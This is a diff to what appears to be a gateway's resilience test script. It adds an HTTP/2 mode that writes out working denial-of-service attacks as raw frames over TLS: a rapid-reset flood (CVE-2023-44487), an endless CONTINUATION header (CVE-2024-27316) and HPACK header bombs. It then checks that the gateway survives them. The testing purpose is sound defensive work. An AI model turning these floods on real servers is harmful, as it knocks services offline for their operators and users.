@@ -3,6 +3,8 @@
 
     hostile.py slow GATEWAY_PORT PID       10,000 connections that send a head byte by byte, an ordinary caller beside
     hostile.py many GATEWAY_PORT ADMIN_PORT PID    100,000 distinct paths, clients and kids; the metric series
+    hostile.py http2 TLS_PORT GATEWAY_PORT ADMIN_PORT PID    rapid resets, CONTINUATION without end, and header
+                                                   bombs over TLS for five seconds each, an ordinary caller beside
 
 Prints one JSON object; exits 1 when what docs/security.md promises did not hold.
 """
@@ -13,6 +15,8 @@ import multiprocessing
 import os
 import selectors
 import socket
+import ssl
+import struct
 import sys
 import time
 import urllib.request
@@ -190,9 +194,92 @@ def many(port, admin_port, pid, count=100_000):
     }, after == before
 
 
+# RFC 9113 section 4.1 and RFC 7541 appendix A: `:method GET`, `:scheme https`, `:path /`, `:authority a`.
+HEAD = b"\x82\x87\x84\x01\x01a"
+HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
+END_STREAM, END_HEADERS = 1, 4
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def rapid_resets():
+    """CVE-2023-44487: each request is taken back at once."""
+    for number in range(1, 200_001, 2):
+        yield frame(HEADERS, END_HEADERS | END_STREAM, number, HEAD) + frame(
+            RST_STREAM, 0, number, struct.pack(">I", 8)
+        )
+
+
+def endless_head():
+    """CVE-2024-27316: a head that goes on in CONTINUATION frames and never ends."""
+    yield frame(HEADERS, END_STREAM, 1, HEAD)
+    field = b"\x00\x01x\x7f\x9e\x01" + b"y" * 285
+    while True:
+        yield frame(CONTINUATION, 0, 1, field * 50)
+
+
+def bombs():
+    """A field of 4 kB put into the table once, and then named a thousand times by one byte each."""
+    value = b"z" * 4000
+    put = b"\x40\x01b" + b"\x7f" + bytes([((len(value) - 127) & 127) | 128, (len(value) - 127) >> 7]) + value
+    for number in range(1, 200_001, 2):
+        named = HEAD + (put if number == 1 else b"") + b"\xbe" * 1000
+        yield frame(HEADERS, END_HEADERS | END_STREAM, number, named)
+
+
+def assail(port, pieces, seconds):
+    """Connection after connection; how many were ended by the gateway, and what was written in all."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    until = time.monotonic() + seconds
+    ended = stalled = written = 0
+    while time.monotonic() < until:
+        plain = socket.create_connection((HOST, port), timeout=10)
+        try:
+            with context.wrap_socket(plain) as stream:
+                stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
+                for piece in pieces():
+                    stream.sendall(piece)
+                    written += len(piece)
+                    if time.monotonic() > until:
+                        break
+        except TimeoutError:
+            stalled += 1
+        except OSError:
+            ended += 1
+    return {
+        "connections_ended": ended,
+        "stalled": stalled,
+        "mib_written": round(written / 2**20, 1),
+    }
+
+
+def http2(tls_port, port, admin_port, pid):
+    baseline = measured(port, 5)
+    series_before, before = series(admin_port), resident_kib(pid)
+    found = {}
+    held = True
+    for pieces in (rapid_resets, endless_head, bombs):
+        attack = {}
+        beside = measured(port, 5, lambda: attack.update(assail(tls_port, pieces, 5)))
+        found[pieces.__name__] = attack | {"ordinary": beside, "resident_kib": resident_kib(pid)}
+        held = held and beside["refused"] == 0 and attack["connections_ended"] > 0
+    after = series(admin_port)
+    return {
+        "baseline": baseline,
+        "attacks": found,
+        "series": {"before": series_before, "after": after},
+        "resident_kib": {"before": before, "after": resident_kib(pid)},
+    }, held and after == series_before
+
+
 def main():
     what, *numbers = sys.argv[1:]
-    result, held = {"slow": slow, "many": many}[what](*map(int, numbers))
+    parts = {"slow": slow, "many": many, "http2": http2}
+    result, held = parts[what](*map(int, numbers))
     result["date"] = time.strftime("%Y-%m-%d", time.gmtime())
     result["cores"] = os.cpu_count()
     print(json.dumps({what: result}))
